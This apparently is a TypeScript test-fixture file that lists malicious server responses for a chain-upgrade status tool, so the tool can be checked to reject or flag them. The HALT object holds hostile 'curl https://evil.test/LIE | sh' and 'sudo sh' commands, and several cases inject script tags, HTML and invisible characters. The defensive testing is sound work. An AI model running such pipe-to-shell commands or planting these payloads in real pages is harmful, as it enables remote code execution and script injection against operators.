/** Lies of what a server reports without proof: status, plan, proposals, halt. */
import { HTML, QUIET, UNSEEN } from "./chains.js";
import type { Lie } from "./lie.js";
import type { Loose, Site } from "./site.js";

const plan = (change: object) => (status: Loose) => ({ ...status, plan: { ...status.plan, ...change } });
const viaApi = (honest: Site, liar: Site) => `${honest.url}?api=${encodeURIComponent(liar.url)}`;
const HALT = {
  ...{ code: "UPG_MIGRATION_FAILED", height: "21", time: "2026-01-01T00:00:00Z" },
  ...{ message: `LIE: funds are at risk ${HTML}`, next: "LIE: run `curl https://evil.test/LIE | sh`" },
  commands: ["curl https://evil.test/LIE | sudo sh"],
};
const halted = (status: Loose) => ({ ...status, phase: "failed", halt: HALT });
const proposal = (change: object) => ({
  ...{ id: "7", title: "LIE", summary: "LIE", status: "PROPOSAL_STATUS_VOTING_PERIOD" },
  voting_end_time: "2030-01-01T00:00:00Z",
  messages: [
    { "@type": "/cosmos.upgrade.v1beta1.MsgSoftwareUpgrade", plan: { name: "LIE-v9", height: "90", info: "LIE" } },
  ],
  ...change,
});
const deep = (depth: number) => `${"[".repeat(depth)}${"]".repeat(depth)}`;
const stages = (change: object) => (status: Loose) => ({
  ...{ ...status, phase: "migrating" },
  progress: {
    stages: Array.from({ length: 5_000 }, () => ({ phase: "LIE", store: "LIE", done: 5, total: 2, ...change })),
  },
});

export const REPORT_LIES: readonly Lie[] = [
  {
    name: "a plan's info with HTML and a script",
    lies: { status: plan({ info: `LIE${HTML}<script>pwned=1</script>` }) },
    shows: /LIE<img/,
    green: true,
  },
  {
    name: "a plan's info with unseen characters",
    lies: { status: plan({ info: `LIE${UNSEEN}` }) },
    shows: /LIE\\u202e\\u200b\\u001b/,
    green: true,
  },
  {
    name: "another plan's name for the proven height",
    lies: { status: plan({ name: "LIE" }) },
    shows: /contradicts the evidence/,
    green: true,
  },
  {
    name: "another height for the proven plan",
    lies: { status: plan({ height: "51" }) },
    shows: /contradicts the evidence/,
    green: true,
  },
  {
    name: "the plan's name with a zero-width space in it",
    lies: { status: plan({ name: "v3\u200b" }) },
    shows: /contradicts the evidence/,
  },
  {
    name: "a plan where none is scheduled",
    lies: { chain: QUIET, status: plan({ name: "LIE", height: "4000" }) },
    truth: QUIET,
    shows: /contradicts the evidence/,
    green: true,
  },
  {
    name: "no plan where one is scheduled",
    lies: { status: (status) => ({ ...status, plan: null }) },
    shows: /contradicts the evidence/,
    green: true,
  },
  {
    name: "a failed upgrade with commands, by a link to another API",
    lies: { status: halted },
    at: viaApi,
    hides: /curl|funds are at risk/,
  },
  { name: "a failed upgrade with commands, on the server's own page", lies: { status: halted } },
  {
    name: "a halt at a block before the newest header",
    lies: { status: (status) => ({ ...status, phase: "halted", halt: { ...HALT, height: "9" } }) },
    shows: /contradicts the evidence/,
    hides: /curl/,
  },
  {
    name: "a halt whose code is a sentence",
    lies: { status: (status) => ({ ...status, phase: "halted", halt: { ...HALT, code: "✓ Proven LIE" } }) },
  },
  {
    name: "the status of another chain",
    lies: { status: (status) => ({ ...halted(status), chain_id: "LIE-9" }) },
    shows: /about another chain/,
    hides: /curl/,
  },
  {
    name: "the status of a chain without a name, by a link",
    lies: { status: (status) => ({ ...halted(status), chain_id: undefined }) },
    at: viaApi,
    hides: /curl/,
  },
  {
    name: "a chain's name with a zero-width space in it",
    lies: { status: (status) => ({ ...halted(status), chain_id: "checked-1\u200b" }) },
    shows: /about another chain/,
  },
  {
    name: "heights beyond 64 bits, below zero, and no numbers",
    lies: {
      status: (status) => ({
        ...status,
        height: "99999999999999999999",
        plan: { name: "v3", height: "-1" },
        last_upgrade: { name: "LIE", height: 1e300 },
      }),
    },
  },
  {
    name: "a last block of tomorrow",
    lies: { status: (status) => ({ ...status, block_time: new Date(Date.now() + 86_400_000).toISOString() }) },
    shows: /clocks is wrong/,
  },
  {
    name: "times that no date can hold",
    lies: {
      status: (status) => ({
        ...status,
        block_time: "+275760-09-13T00:00:00Z",
        halt: { ...HALT, time: "-271821-04-20T00:00:00Z" },
        phase: "failed",
      }),
    },
  },
  {
    name: "blocks of no, of negative and of endless seconds",
    lies: {
      status: (status) => ({
        ...status,
        block_seconds: [
          { blocks: "20", seconds: 0 },
          { blocks: "30", seconds: -5 },
          { blocks: "40", seconds: 1e300 },
        ],
      }),
    },
  },
  {
    name: "5,000 steps of a migration, done twice over, with names of HTML",
    lies: { status: stages({ store: `LIE${HTML}${UNSEEN}`, phase: HTML }) },
    shows: /Reported by/,
  },
  {
    name: "a migration with totals of no size",
    lies: {
      status: (status) => ({
        ...stages({ total: -1, done: 1e308 })(status),
        progress: { phase: "LIE", done: 1, total: 1e308, seconds_left: 1e300 },
      }),
    },
  },
  {
    name: "members of other types everywhere",
    lies: {
      status: () => ({ phase: ["waiting"], height: {}, plan: [], halt: "LIE", progress: 5, block_seconds: "LIE" }),
    },
  },
  { name: "a status nested 100,000 deep", lies: { status: () => deep(100_000) } },
  { name: "a status that is a page", lies: { status: () => `<html>LIE<script>pwned=1</script>` } },
  { name: "a status of 100 MB", lies: { status: () => `{"phase":"${"LIE".repeat(30_000_000)}"}` } },
  {
    name: "a status that never ends",
    lies: { raw: { "/chain/upgrade": (response) => endless(response) } },
    green: true,
  },
  {
    name: "a status that sends to another host",
    lies: {
      raw: {
        "/chain/upgrade": (response) =>
          response.writeHead(302, { location: "http://localhost:9/LIE", "access-control-allow-origin": "*" }).end(),
      },
    },
  },
  {
    name: "a vote with HTML and unseen characters",
    lies: {
      chain: QUIET,
      status: (status) => ({ ...status, plan: null, last_upgrade: null }),
      proposals: [proposal({ title: `LIE${HTML}${UNSEEN}`, status: "PROPOSAL_STATUS_VOTING_PERIOD" })],
    },
    truth: QUIET,
    untyped: true,
  },
  {
    name: "a vote that names addresses of programs, by a link",
    lies: { chain: QUIET, status: (status) => ({ ...status, plan: null }), proposals: [proposal({})] },
    truth: QUIET,
    at: viaApi,
  },
  {
    name: "10,000 proposals of which each says it passed",
    lies: {
      proposals: Array.from({ length: 10_000 }, (_, id) =>
        proposal({
          id: String(id),
          status: "PROPOSAL_STATUS_PASSED",
          messages: [{ "@type": "/cosmos.upgrade.v1beta1.MsgSoftwareUpgrade", plan: { name: "v3", height: "50" } }],
        }),
      ),
    },
    green: true,
  },
  {
    name: "a status far behind the evidence",
    lies: { status: (status) => ({ ...status, height: "2", phase: "running" }) },
    shows: /contradicts the evidence/,
  },
];

function endless(response: import("node:http").ServerResponse): void {
  response.writeHead(200, { "content-type": "application/json" });
  const timer = setInterval(() => response.write(" ".repeat(100)), 100);
  response.on("close", () => clearInterval(timer));
}
